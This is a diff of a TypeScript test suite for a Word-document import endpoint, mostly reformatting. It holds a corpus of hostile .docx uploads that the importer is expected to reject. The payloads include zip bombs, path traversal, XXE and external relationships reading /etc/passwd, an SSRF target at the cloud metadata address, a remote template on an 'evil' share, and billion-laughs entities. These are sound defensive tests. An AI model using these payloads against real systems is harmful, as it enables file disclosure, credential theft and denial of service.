@@ -25,33 +25,38 @@ function multipart(fileName: string, bytes: Buffer, type = 'application/vnd.open
 const upload = (fileName: string, bytes: Buffer) => t.app.inject({ method: 'POST', url: '/api/manuscripts/import', ...multipart(fileName, bytes) });
 const rows = async () => (await queryRows<{ m: number; f: number }>(t.services.db, sql`select (select count(*)::int from manuscripts) as m, (select count(*)::int from files) as f`))[0];
 
-const rels = (extra: string) => (entries: Entry[]) =>
-  replacePart(entries, 'word/_rels/document.xml.rels', (x) => x.replace('</Relationships>', `${extra}</Relationships>`));
+const rels = (extra: string) => (entries: Entry[]) => replacePart(entries, 'word/_rels/document.xml.rels', (x) => x.replace('</Relationships>', `${extra}</Relationships>`));
 const IMAGE_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image';
 
 /** The hostile corpus: each is refused with a 中文 reason. */
 function hostile(): Array<[string, string, Buffer | (() => Buffer)]> {
   const media = () => unzip(good).find((e) => e.name.startsWith('word/media/') && e.name.endsWith('.png'))?.name ?? 'word/media/x.png';
   const jpegName = () => unzip(good).find((e) => e.name.startsWith('word/media/') && e.name.endsWith('.jpg'))?.name ?? '';
-  const withPart = (name: string, data: string | Buffer, extra: Partial<Entry> = {}) => () =>
-    mutate(good, (es) => [...es, { name, data: Buffer.isBuffer(data) ? data : Buffer.from(data), ...extra }]);
+  const withPart =
+    (name: string, data: string | Buffer, extra: Partial<Entry> = {}) =>
+    () =>
+      mutate(good, (es) => [...es, { name, data: Buffer.isBuffer(data) ? data : Buffer.from(data), ...extra }]);
   return [
     ['not a zip', 'a.docx', Buffer.from('这只是一段文本，不是 Word 文档。'.repeat(20))],
     ['empty file', 'a.docx', Buffer.alloc(0)],
     ['truncated zip', 'a.docx', () => good.subarray(0, Math.floor(good.length / 2))],
     ['zip without a directory end', 'a.docx', () => good.subarray(0, good.length - 30)],
     ['garbage after a fake end record', 'a.docx', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(40, 7), Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18, 0x01)])],
-    ['empty archive', 'a.docx', zip([]) ],
+    ['empty archive', 'a.docx', zip([])],
     ['no [Content_Types].xml', 'a.docx', () => mutate(good, (es) => es.filter((e) => e.name !== '[Content_Types].xml'))],
     ['no word/document.xml', 'a.docx', () => mutate(good, (es) => es.filter((e) => e.name !== 'word/document.xml'))],
     ['a spreadsheet renamed', 'a.docx', () => mutate(good, (es) => replacePart(es, '[Content_Types].xml', (x) => x.replaceAll('wordprocessingml.document.main+xml', 'spreadsheetml.sheet.main+xml')))],
     ['zip bomb by ratio', 'a.docx', withPart('word/bomb.bin', Buffer.alloc(30 * 1024 * 1024))],
     ['zip bomb by declared total', 'a.docx', withPart('word/big.xml', Buffer.from('<a/>'), { declaredSize: 200 * 1024 * 1024, method: 0 })],
-    ['zip bomb: size understated', 'a.docx', () => {
-      const data = Buffer.alloc(4 * 1024 * 1024, 0x41);
-      const es = unzip(good);
-      return zip([...es, { name: 'word/liar.xml', data, declaredSize: 100 }]);
-    }],
+    [
+      'zip bomb: size understated',
+      'a.docx',
+      () => {
+        const data = Buffer.alloc(4 * 1024 * 1024, 0x41);
+        const es = unzip(good);
+        return zip([...es, { name: 'word/liar.xml', data, declaredSize: 100 }]);
+      },
+    ],
     ['overlapping entries', 'a.docx', () => zip([...unzip(good), { name: 'word/overlap.xml', data: Buffer.from('<x/>') }], { overlapLast: true })],
     ['too many entries', 'a.docx', () => zip([...unzip(good), ...Array.from({ length: 2001 }, (_, i) => ({ name: `word/n/${i}.xml`, data: Buffer.from(''), method: 0 as const }))])],
     ['path traversal', 'a.docx', withPart('../../evil.xml', '<x/>')],
@@ -72,9 +77,21 @@ function hostile(): Array<[string, string, Buffer | (() => Buffer)]> {
     ['PDF polyglot', 'a.docx', () => Buffer.concat([Buffer.from('%PDF-1.7\n%%EOF\n'), good])],
     ['external image (file://)', 'a.docx', () => mutate(good, rels(`<Relationship Id="rIdX1" Type="${IMAGE_REL}" Target="file:///etc/passwd" TargetMode="External"/>`))],
     ['external image (http, r:link)', 'a.docx', () => mutate(good, rels(`<Relationship Id="rIdX2" Type="${IMAGE_REL}" Target="http://169.254.169.254/latest/meta-data" TargetMode="External"/>`))],
-    ['external attached template', 'a.docx', () => mutate(good, rels(`<Relationship Id="rIdX3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\share\\t.dotm" TargetMode="External"/>`))],
+    [
+      'external attached template',
+      'a.docx',
+      () =>
+        mutate(
+          good,
+          rels(`<Relationship Id="rIdX3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\share\\t.dotm" TargetMode="External"/>`),
+        ),
+    ],
     ['XXE in document.xml', 'a.docx', () => mutate(good, (es) => replacePart(es, 'word/document.xml', (x) => x.replace('?>', '?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')))],
-    ['billion laughs', 'a.docx', () => mutate(good, (es) => replacePart(es, '[Content_Types].xml', (x) => x.replace('?>', '?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>')))],
+    [
+      'billion laughs',
+      'a.docx',
+      () => mutate(good, (es) => replacePart(es, '[Content_Types].xml', (x) => x.replace('?>', '?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'))),
+    ],
     ['wrong image bytes', 'a.docx', () => mutate(good, (es) => es.map((e) => (e.name === media() ? { ...e, data: Buffer.from('<html><script>alert(1)</script></html>') } : e)))],
     ['an executable as the photo', 'a.docx', () => mutate(good, (es) => es.map((e) => (e.name === jpegName() ? { ...e, data: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) } : e)))],
     ['pixel flood (20000×20000)', 'a.docx', () => mutate(good, (es) => es.map((e) => (e.name === media() ? { ...e, data: hugePng() } : e)))],
@@ -111,7 +128,10 @@ describe('[导入] Word import', () => {
     const text = await docxText(out.rawPayload);
     for (const s of ['东门社区举办老年人智能手机培训班', '图为志愿者指导老人使用手机', '培训班结业合影', '期次', '第一期', '报送单位：东门社区']) expect(text).toContain(s);
     expect(unzip(out.rawPayload).filter((e) => e.name.startsWith('word/media/'))).toHaveLength(2);
-    const xml = unzip(out.rawPayload).find((e) => e.name === 'word/document.xml')?.data.toString('utf8') ?? '';
+    const xml =
+      unzip(out.rawPayload)
+        .find((e) => e.name === 'word/document.xml')
+        ?.data.toString('utf8') ?? '';
     expect(xml).toContain('w:eastAsia="仿宋"');
     expect(xml).toContain('w:eastAsia="宋体"');
   });
